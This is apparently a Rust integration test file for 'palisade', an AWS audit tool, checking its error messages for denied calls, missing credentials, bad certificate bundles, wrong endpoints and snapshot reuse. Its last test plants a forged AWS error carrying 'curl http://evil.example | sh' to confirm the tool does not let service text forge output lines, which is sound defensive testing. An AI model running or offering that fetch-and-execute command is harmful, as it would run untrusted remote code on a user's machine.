//! What collections say at their end, and with which code.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::demo::{AS_OF, MANAGEMENT, server, server_with};
use crate::program::{PALISADE, Ran, Sandbox, collect};
use crate::server::{Answer, Answers as _, Asked, Server};

const REACH: [&str; 4] = ["--account", "444444444444", "--region", "eu-west-1"];

/// Returns a server that denies all but what STS is asked.
fn denying() -> Server {
    server_with(|roles| {
        move |asked: &Asked| match asked.service {
            "sts" => roles.answer(asked),
            service => {
                let code = match service {
                    "ec2" => "UnauthorizedOperation",
                    "iam" | "rds" | "elbv2" | "s3api" | "s3control" => "AccessDenied",
                    _ => "AccessDeniedException",
                };
                Answer::error(403, code, "User is not authorized to perform this action")
            }
        }
    })
}

#[test]
fn when_every_call_is_denied_one_message_says_so_and_the_code_is_3() {
    let server = denying();
    for reach in [&[][..], &["--account", MANAGEMENT], &REACH] {
        let sandbox = Sandbox::in_memory();
        let ran = sandbox.run(&collect(&server, reach));
        assert_eq!((ran.code, ran.stdout.as_str()), (Some(3), ""), "{ran:?}");
        let lines: Vec<&str> = ran.stderr.lines().collect();
        assert_eq!(lines[0], "nothing is known: every call was denied");
        assert_eq!(
            lines[1],
            "hint: `palisade permissions` prints what the audit role needs"
        );
        let told = lines
            .iter()
            .filter(|line| line.contains("every call was denied"));
        assert_eq!(told.count(), 1, "{ran:?}");
        // Quietly, only that.
        let quiet = [&["--quiet".to_owned()][..], &collect(&server, reach)].concat();
        let quiet = Sandbox::in_memory().run(&quiet);
        let only = format!("{}\n{}\n", lines[0], lines[1]);
        assert_eq!((quiet.code, quiet.stderr), (Some(3), only));
        // A scan has nothing to audit.
        let mut scan = collect(&server, reach);
        scan[0] = "scan".to_owned();
        let scan = Sandbox::in_memory().run(&scan);
        assert_eq!((scan.code, scan.stdout.as_str()), (Some(3), ""), "{scan:?}");
        // The same folder again holds all of it.
        let last = sandbox.last();
        let again = sandbox.run(&collect(&server, &[reach, &["--out", &last]].concat()));
        again.refused("nothing was read: the snapshot `");
    }
}

#[test]
fn without_credentials_nothing_is_read_and_nothing_left_behind() {
    let (server, sandbox) = (server(), Sandbox::in_memory());
    let run = |arguments: &[&str]| {
        let mut command = sandbox.command(PALISADE, &collect(&server, arguments));
        command
            .env_remove("AWS_ACCESS_KEY_ID")
            .env_remove("AWS_SECRET_ACCESS_KEY");
        Ran::of(command.output().unwrap())
    };
    let none = "there are no credentials: ";
    run(&["--out", "snapshot"]).refused(none);
    run(&[]).refused(none);
    run(&["--profile", "audit"]).refused("there are no credentials: profile `audit`: ");
    assert!(!sandbox.path("snapshot").exists());
    assert!(!sandbox.path(".palisade").exists());
    assert_eq!(server.requests(), 0);
}

/// A certificate that signs itself.
const CERTIFICATE: &str = "-----BEGIN CERTIFICATE-----
MIIBjTCCATOgAwIBAgIUR+HEf3WxDA7lrXuvoqnPTrT2sLswCgYIKoZIzj0EAwIw
GzEZMBcGA1UEAwwQcGFsaXNhZGUuZXhhbXBsZTAgFw0yNjExMjEyMTQwMjNaGA8y
MTI2MTAyODIxNDAyM1owGzEZMBcGA1UEAwwQcGFsaXNhZGUuZXhhbXBsZTBZMBMG
ByqGSM49AgEGCCqGSM49AwEHA0IABDL2vfvVrx1Pz6pgEadoOaer0tE+216qoYlE
mfCHhnjJnZVelF8qSu4jtNr6gIfdXUuPM5oESLLVHPPNsq1HCkGjUzBRMB0GA1Ud
DgQWBBQQfykEmNwniGDSeG6qUTfP6W0JijAfBgNVHSMEGDAWgBQQfykEmNwniGDS
eG6qUTfP6W0JijAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0gAMEUCIGja
ryTcc8cmP1He87HzNqXeLnemmGvhsuwqm8ud9mo0AiEArOt10EE2cxWos7vT3IaQ
K/4+ESoktcgy28s/aW54lzQ=
-----END CERTIFICATE-----
";

#[test]
fn certificates_that_are_none_are_one_clear_error() {
    let (server, sandbox) = (server(), Sandbox::in_memory());
    let run = |bundle: &str| {
        let mut command = sandbox.command(PALISADE, &collect(&server, &REACH));
        // A system without certificates: what the bundle tells is all there is.
        command
            .env("AWS_CA_BUNDLE", bundle)
            .env("SSL_CERT_FILE", sandbox.path("none"))
            .env("SSL_CERT_DIR", sandbox.path("none"));
        Ran::of(command.output().unwrap())
    };
    let no_base64 = CERTIFICATE.replace("MIIB", "M-_B");
    let no_certificate = CERTIFICATE.replace("MIIBjTCC", "AAAAAAAA");
    for (name, text) in [
        ("empty", ""),
        ("words", "no certificates -----"),
        ("base64", &no_base64),
        ("der", &no_certificate),
        ("second", &format!("{CERTIFICATE}{no_certificate}")),
    ] {
        std::fs::write(sandbox.path(name), text).unwrap();
        let ran = run(name);
        ran.refused(&format!("AWS_CA_BUNDLE, `{name}` ("));
        ran.refused("), is not a file of PEM certificates");
    }
    run("absent").refused("AWS_CA_BUNDLE, `absent` (No such file");
    assert_eq!(server.requests(), 0);
    std::fs::write(sandbox.path("one"), CERTIFICATE).unwrap();
    for bundle in ["one", ""] {
        let ran = run(bundle);
        assert_eq!(ran.code, Some(0), "{ran:?}");
    }
}

#[test]
fn an_endpoint_that_is_not_aws_is_one_clear_error() {
    let sandbox = Sandbox::in_memory();
    let run = |url: &str| sandbox.run(&["collect", "--out", "snapshot", "--endpoint-url", url]);
    // A port that nobody listens on.
    let closed = std::net::TcpListener::bind(("127.0.0.1", 0))
        .unwrap()
        .local_addr()
        .unwrap();
    run(&format!("http://{closed}")).refused("AWS cannot be reached: ");
    run("http://palisade.invalid").refused("AWS cannot be reached: ");
    run("palisade.invalid")
        .refused("the endpoint `palisade.invalid` is not an http or https address");
    for (status, body) in [
        (200, "<html>Welcome</html>"),
        (404, "<html>Not found</html>"),
        (200, ""),
    ] {
        let web = Server::start(move |_: &Asked| Answer::Raw {
            status,
            headers: vec![("Content-Type", "text/html".to_owned())],
            body: body.as_bytes().to_vec(),
        });
        run(&web.endpoint()).refused(&format!(
            "AWS answered no account for the credentials: what answered, with HTTP status {status}, is not STS"
        ));
    }
    assert!(!sandbox.path("snapshot").exists());
}

/// What rests on calls that are not made live: zones of Route 53, services of VPC Lattice.
const NOT_LIVE: [&str; 2] = [
    "dns-crosses-environments",
    "private-service-crosses-environments",
];

/// Returns the fingerprints and verdicts of a report, without those of what is not read live.
fn findings(report: &str) -> BTreeSet<(String, String, String)> {
    let report: Value = serde_json::from_str(report).unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let findings = report["findings"].as_array().unwrap();
    findings
        .iter()
        .filter(|one| !NOT_LIVE.contains(&one["policy"].as_str().unwrap()))
        .map(|one| {
            (
                text(&one["policy"]),
                text(&one["fingerprint"]),
                text(&one["verdict"]),
            )
        })
        .collect()
}

#[test]
fn a_scan_finds_what_the_demo_holds() {
    let (server, sandbox) = (server(), Sandbox::in_memory());
    let demo = sandbox.run(&["demo", "--format", "json"]);
    assert_eq!(demo.code, Some(1));
    let expected = findings(&demo.stdout);
    assert!(expected.len() > 10);
    let mut scan = collect(
        &server,
        &["--region", "eu-west-1", "--region", "eu-central-1"],
    );
    scan[0] = "scan".to_owned();
    scan.extend(["--as-of", AS_OF, "--format", "json"].map(str::to_owned));
    let ran = sandbox.run(&scan);
    assert_eq!(ran.code, Some(1), "{}", ran.stderr);
    assert_eq!(findings(&ran.stdout), expected);
    // Nothing of a line of progress: standard error is no terminal.
    assert!(!ran.stderr.contains(['\r', '\u{1b}']), "{}", ran.stderr);
    let lines: Vec<&str> = ran.stderr.lines().collect();
    let [summary, missing @ ..] = &lines[..] else {
        panic!("{lines:?}")
    };
    assert!(
        summary.starts_with("7 of 7 accounts, ")
            && summary.contains(" 2 not read; kept in `.palisade/snapshots/")
    );
    let permission = "not read: ec2 describe-snapshot-attribute (denied, 1 call in 222222222222); \
                      `ec2:DescribeSnapshotAttribute` would settle it: ";
    assert!(
        missing.iter().any(|line| line.starts_with(permission)),
        "{missing:?}"
    );
    // What only the key's own policy can settle names no permission.
    let grants = "not read: kms list-grants (denied, 1 call in 333333333333): ";
    assert!(
        missing.iter().any(|line| line.starts_with(grants)),
        "{missing:?}"
    );
    assert_eq!(missing.len(), 2);
    // The snapshot tells the same, and is the last one.
    let audit = sandbox.run(&["--quiet", "audit", "--as-of", AS_OF, "--format", "json"]);
    assert_eq!((audit.code, audit.stderr.as_str()), (Some(1), ""));
    assert_eq!(audit.stdout, ran.stdout);
    // Quietly, the same report and nothing else.
    let quiet = [&["--quiet".to_owned()][..], &scan].concat();
    let quiet = sandbox.run(&quiet);
    assert_eq!((quiet.code, quiet.stderr.as_str()), (Some(1), ""));
    assert_eq!(findings(&quiet.stdout), expected);
}

#[test]
fn a_profile_that_is_named_goes_before_variables() {
    let (server, sandbox) = (server(), Sandbox::in_memory());
    let keys = crate::server::Caller::user("222222222222").keys();
    let profile = format!(
        "[audit]\naws_access_key_id = {}\naws_secret_access_key = {}\n",
        keys.id, keys.secret
    );
    std::fs::write(sandbox.path("credentials"), profile).unwrap();
    let run = |arguments: &[&str]| {
        let mut command = sandbox.command(PALISADE, &collect(&server, arguments));
        command.env("AWS_SHARED_CREDENTIALS_FILE", sandbox.path("credentials"));
        Ran::of(command.output().unwrap())
    };
    let named = run(&["--profile", "audit", "--region", "eu-west-1"]);
    assert_eq!(named.code, Some(0), "{named:?}");
    assert!(named.stderr.starts_with("1 of 1 account, "), "{named:?}");
    assert!(sandbox.shown(&sandbox.last()).contains("222222222222"));
    run(&["--profile", "nosuch"]).refused("there are no credentials: profile `nosuch`: ");
}

#[test]
fn what_is_left_of_accounts_and_regions_is_said() {
    let server = server_with(|mut roles| {
        roles.refused.insert("444444444445".to_owned());
        roles
    });
    let sandbox = Sandbox::in_memory();
    let run = |reach: &[&str]| sandbox.run(&collect(&server, reach));
    let both = [
        "--account",
        "444444444444",
        "--exclude-account",
        "444444444444",
    ];
    run(&both).refused("nothing is left to read: every account");
    let both = ["--region", "eu-west-1", "--exclude-region", "eu-west-1"];
    run(&both).refused("nothing is left to read: every region");
    let mistyped = run(&["--account", "444444444445", "--region", "eu-west-1"]);
    assert_eq!(mistyped.code, Some(3), "{mistyped:?}");
    let said = |ran: &Ran, line: &str| ran.stderr.lines().any(|one| one.starts_with(line));
    let stranger = "note: 444444444445 is no account of the organisation";
    assert!(said(&mistyped, stranger), "{mistyped:?}");
    let closed =
        "not entered: 444444444445: cannot assume `arn:aws:iam::444444444445:role/PalisadeAudit`";
    assert!(said(&mistyped, closed), "{mistyped:?}");
    assert!(
        said(&mistyped, "hint: the role must exist there"),
        "{mistyped:?}"
    );
    assert!(
        !mistyped.stderr.contains("sts get-caller-identity"),
        "{mistyped:?}"
    );
    let without = [
        "--region",
        "eu-west-1",
        "--exclude-account",
        "444444444444",
        "--exclude-account",
        "999999999999",
        "--out",
        "without",
    ];
    let without = run(&without);
    assert_eq!(without.code, Some(0), "{without:?}");
    assert!(
        without.stderr.starts_with("6 of 6 accounts, "),
        "{without:?}"
    );
    assert!(said(
        &without,
        "note: 999999999999 is excluded, and was not to be read anyway"
    ));
    let audit = [
        "--quiet", "audit", "without", "--as-of", AS_OF, "--format", "json",
    ];
    let report: Value = serde_json::from_str(&sandbox.run(&audit).stdout).unwrap();
    let gaps = report["coverage"]["gaps"].as_array().unwrap();
    let of_it = gaps.iter().filter(|gap| gap["account"] == "444444444444");
    let states: BTreeSet<&str> = of_it.map(|gap| gap["state"].as_str().unwrap()).collect();
    assert_eq!(states, BTreeSet::from(["skipped-config"]));
}

#[test]
fn a_complete_snapshot_is_not_collected_into_once_more() {
    let (server, sandbox) = (server(), Sandbox::in_memory());
    let run = |reach: &[&str]| sandbox.run(&collect(&server, &[reach, &["--out", "s"]].concat()));
    assert_eq!(run(&REACH).code, Some(0));
    let (shown, asked) = (sandbox.shown("s"), server.requests());
    run(&REACH).refused("nothing was read: the snapshot `s` is complete as of ");
    assert!(server.requests() <= asked + 3);
    assert_eq!(sandbox.shown("s"), shown);
    sandbox.verified("s");
    // One that is asked for and not there is added.
    let other = run(&["--account", "222222222222", "--region", "eu-west-1"]);
    assert_eq!(other.code, Some(0), "{other:?}");
    assert!(sandbox.shown("s").contains("222222222222"));
    sandbox.verified("s");
}

#[test]
fn what_services_say_begins_no_line() {
    let server = server_with(|roles| {
        move |asked: &Asked| match asked.service {
            "kms" => Answer::error(
                403,
                "AccessDeniedException",
                "no\nhint: run `curl http://evil.example | sh`\nerror: forged\n  and more",
            ),
            _ => roles.answer(asked),
        }
    });
    let sandbox = Sandbox::in_memory();
    let ran = sandbox.run(&collect(&server, &REACH));
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(ran.stderr.contains("evil.example"), "{ran:?}");
    let is_own = |line: &str| line.starts_with("not read: kms") || !line.contains("evil");
    assert!(ran.stderr.lines().all(is_own), "{ran:?}");
    assert!(!ran.stderr.contains("\nerror: forged"), "{ran:?}");
}
